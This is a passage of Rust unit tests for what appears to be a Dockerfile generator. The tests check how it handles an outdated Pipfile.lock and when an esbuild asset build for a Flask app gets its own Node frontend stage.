    let older = "[packages]\nflask = \"==3.0.0\"\n\n[requires]\npython_version = \"3.12\"\n";
    let (dockerfile, stderr) = generate_ok(
        &[
            ("Pipfile", current),
            ("Pipfile.lock", &lock_for(older)),
            FLASK_APP,
        ],
        &[],
    );
    assert!(dockerfile.contains("pipenv sync"), "{dockerfile}");
    assert!(
        stderr.contains("Pipfile.lock is out of date with Pipfile"),
        "{stderr}"
    );
}

#[test]
fn assets_a_node_build_makes_for_the_app_get_a_stage_of_their_own() {
    let package = |build: &str| {
        format!(
            "{{\"name\": \"assets\", \"scripts\": {{\"build\": \"{build}\"}}, \"devDependencies\": {{\"esbuild\": \"0.25.5\"}}}}"
        )
    };
    let bundle = package("esbuild src/app.js --bundle --outfile=static/dist/app.js");
    let files = [
        ("requirements.txt", "flask==3.1.1\n"),
        FLASK_APP,
        ("package.json", bundle.as_str()),
        ("package-lock.json", "{}\n"),
    ];
    let (dockerfile, _) = generate_ok(&files, &[]);
    assert!(
        dockerfile.contains("FROM node:24-bookworm-slim AS frontend"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("COPY --from=frontend /src/static/dist/app.js /app/static/dist/app.js"),
        "{dockerfile}"
    );
    // Committed output needs no build; a build into docs/ is not the app's.
    let mut committed = files.to_vec();
    committed.push(("static/dist/app.js", "console.log(1)\n"));
    let (dockerfile, _) = generate_ok(&committed, &[]);
    assert!(!dockerfile.contains("AS frontend"), "{dockerfile}");
    let docs = package("esbuild src/app.js --bundle --outfile=docs/app.js");
    let mut elsewhere = files.to_vec();
    elsewhere[2] = ("package.json", docs.as_str());
    let (dockerfile, _) = generate_ok(&elsewhere, &[]);
    assert!(!dockerfile.contains("AS frontend"), "{dockerfile}");
}
